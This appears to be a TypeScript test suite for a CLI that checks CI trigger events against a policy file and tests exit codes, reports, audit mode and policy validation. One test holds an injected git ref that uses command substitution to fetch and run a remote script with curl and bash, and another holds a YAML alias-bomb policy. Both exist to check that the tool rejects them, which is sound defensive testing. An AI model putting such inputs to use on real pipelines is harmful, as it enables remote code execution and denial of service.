import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cli, ROOT, tempDir, writeTemp } from '../helpers/spawn.js';

const POLICY = join(ROOT, 'examples/ci-constraints.yml');
const CONTEXTS = join(ROOT, 'examples/contexts');

function context(dir: string, over: Record<string, unknown>): string {
  return writeTemp(dir, `ctx-${Math.random().toString(36).slice(2)}.json`, JSON.stringify({ platform: 'github', event: 'push', ref: 'refs/heads/main', sha: 'a'.repeat(40), repository: 'o/r', actor: 'octocat', ...over }));
}

const run = (args: string[], env: Record<string, string> = {}) => cli(['--platform', 'local', ...args], env);
const noStack = (s: string) => expect(s).not.toMatch(/\n\s+at .+:\d+:\d+/);

describe('CLI contract: exit 0 allow, 1 deny, 2 usage/config error', () => {
  it('allows an allowed push to main (exit 0) and prints the verdict', () => {
    const r = run(['verify-trigger', '--policy', POLICY, '-e', 'production', '--context', join(CONTEXTS, 'push-to-main.json')]);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('verify-trigger: ALLOW');
  });

  it('denies a tag posing as a branch (exit 1) naming trigger.refs and the policy line', () => {
    const r = run(['verify-trigger', '--policy', POLICY, '-e', 'production', '--context', join(CONTEXTS, 'tag-posing-as-branch.json')]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/trigger\.refs: ref refs\/tags\/main matches none of the allowed refs/);
    expect(r.stdout).toMatch(/rule: +.*ci-constraints\.yml:\d+:\d+/);
  });

  it('denies a ref carrying $(…) with trigger.ref-charset', () => {
    const dir = tempDir();
    const r = run(['verify-trigger', '--policy', POLICY, '-e', 'staging', '--context', context(dir, { ref: 'refs/heads/$(curl${IFS}evil.sh|bash)' }), '--format', 'json']);
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.violations.map((v: { rule: string }) => v.rule)).toContain('trigger.ref-charset');
  });

  it('audit mode reports the deny as NOT ENFORCED and exits 0', () => {
    const r = run(['verify-trigger', '--policy', POLICY, '-e', 'production', '--mode', 'audit', '--context', join(CONTEXTS, 'tag-posing-as-branch.json')]);
    expect(r.status).toBe(0);
    expect(r.stdout).toContain('NOT ENFORCED');
  });

  it('writes the JSON report in the documented shape with --report', () => {
    const dir = tempDir();
    const reportFile = join(dir, 'r.json');
    const r = run(['verify-trigger', '--policy', POLICY, '-e', 'staging', '--context', join(CONTEXTS, 'fork-pull-request.json'), '--report', reportFile]);
    expect(r.status).toBe(1);
    const report = JSON.parse(readFileSync(reportFile, 'utf8'));
    expect(report).toMatchObject({ action: 'verify-trigger', decision: 'deny', environment: 'staging', mode: 'enforce', policy: { source: expect.stringContaining('ci-constraints.yml'), sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } });
    expect(report.violations.map((v: { rule: string }) => v.rule).sort()).toEqual(['trigger.events', 'trigger.forks', 'trigger.refs']);
    expect(report.checks.length).toBeGreaterThan(report.violations.length);
  });

  it.each([
    ['an unknown environment', ['-e', 'prodution'], /environment "prodution" is not defined in the policy — did you mean "production"\?/],
    ['no environment', [], /no environment given/],
    ['a bad mode', ['-e', 'staging', '--mode', 'relaxed'], /mode must be "enforce" or "audit"/],
    ['a missing policy file', ['-e', 'staging', '--policy', '/nonexistent/p.yml'], /policy file \/nonexistent\/p\.yml cannot be read \(ENOENT\)/],
    ['an unknown option', ['-e', 'staging', '--enviroment', 'x'], /has no option --enviroment — did you mean --environment\?/],
  ])('exits 2 on %s, with one clear message and no stack trace', (_what, args, pattern) => {
    const r = run(['verify-trigger', '--policy', POLICY, '--context', join(CONTEXTS, 'push-to-main.json'), ...args]);
    expect(r.status).toBe(2);
    expect(`${r.stdout}${r.stderr}`).toMatch(pattern);
    noStack(r.stdout + r.stderr);
  });

  it.each([
    ['malformed YAML', 'version: 1\nenvironments: {staging: [}\n', /is not a valid ci-constraints policy/],
    ['a wrong type', 'version: 1\nenvironments:\n  staging:\n    trigger: { events: push }\n', /staging\.trigger\.events: expected array/],
    ['an alias bomb', `version: 1\na: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\nenvironments: {}\n`, /aliases expand too far|not a valid/],
  ])('exits 2 on a policy with %s', (_what, text, pattern) => {
    const dir = tempDir();
    const r = run(['verify-trigger', '--policy', writeTemp(dir, 'p.yml', text), '-e', 'staging', '--context', join(CONTEXTS, 'push-to-main.json')]);
    expect(r.status).toBe(2);
    expect(r.stdout + r.stderr).toMatch(pattern);
    noStack(r.stdout + r.stderr);
  });

  it('exits 2 on a 50 MB policy without reading it', () => {
    const dir = tempDir();
    const file = join(dir, 'huge.yml');
    writeFileSync(file, Buffer.alloc(50 * 1024 * 1024, 0x61));
    const r = run(['verify-trigger', '--policy', file, '-e', 'staging', '--context', join(CONTEXTS, 'push-to-main.json')]);
    expect(r.status).toBe(2);
    expect(r.stdout + r.stderr).toMatch(/at most 1048576 bytes/);
  });

  it('refuses --context inside a CI job: a file is not evidence', () => {
    const r = cli(['verify-trigger', '--policy', POLICY, '-e', 'staging', '--context', join(CONTEXTS, 'push-to-main.json')], { GITHUB_ACTIONS: 'true' });
    expect(r.status).toBe(2);
    expect(r.stdout + r.stderr).toMatch(/--context is for local runs/);
  });

  it('pins the policy by sha256: a changed policy denies with exit 2', () => {
    const r = run(['verify-trigger', '--policy', POLICY, '-e', 'production', '--context', join(CONTEXTS, 'push-to-main.json'), '--policy-sha256', '0'.repeat(64)]);
    expect(r.status).toBe(2);
    expect(r.stdout + r.stderr).toMatch(/policy-sha256 pins 0{64}/);
  });
});

describe('policy commands', () => {
  it('validate: exit 0 with the environments and sha256; exit 2 with file:line:column', () => {
    const ok = cli(['policy', 'validate', '--policy', POLICY]);
    expect(ok.status).toBe(0);
    expect(ok.stdout).toMatch(/valid \(3 environments: ci, staging, production; sha256 [0-9a-f]{64}\)/);
    const dir = tempDir();
    const bad = cli(['policy', 'validate', '--policy', writeTemp(dir, 'p.yml', 'version: 1\nenvironments:\n  e:\n    trigger: { forks: nope }\n')]);
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/p\.yml:4:23: environments\.e\.trigger\.forks: expected one of "deny", "allow"/);
  });

  it('schema: a JSON Schema that describes the policy keys', () => {
    const r = cli(['policy', 'schema']);
    expect(r.status).toBe(0);
    const schema = JSON.parse(r.stdout);
    expect(schema.properties.environments.additionalProperties.properties.trigger.properties.refs.description).toMatch(/full refs/);
    expect(schema.additionalProperties).toBe(false);
  });

  it('test: passes matching cases and prints a diff for mismatches (exit 1)', () => {
    const dir = tempDir();
    const cases = writeTemp(
      dir,
      'cases.yml',
      `policy: ${POLICY}
cases:
  - name: push to main
    environment: production
    context: { platform: github, event: push, ref: refs/heads/main, actor: octocat, repository: o/r }
    expect: { decision: allow, rules: [] }
  - name: tag posing as a branch
    environment: production
    context: { platform: github, event: push, ref: refs/tags/main, actor: octocat, repository: o/r }
    expect: { decision: deny, rules: [trigger.refs] }
  - name: a wrong expectation
    environment: production
    context: { platform: github, event: push, ref: refs/heads/dev, actor: mallory, repository: o/r }
    expect: { decision: allow }
`,
    );
    const r = cli(['policy', 'test', cases]);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('PASS  push to main');
    expect(r.stdout).toContain('PASS  tag posing as a branch');
    expect(r.stdout).toMatch(/FAIL  a wrong expectation\n  - expected: allow\n  \+ actual:   deny \[trigger\.actors, trigger\.refs\]/);
    expect(r.stdout).toContain('2 passed, 1 failed');
  });
});
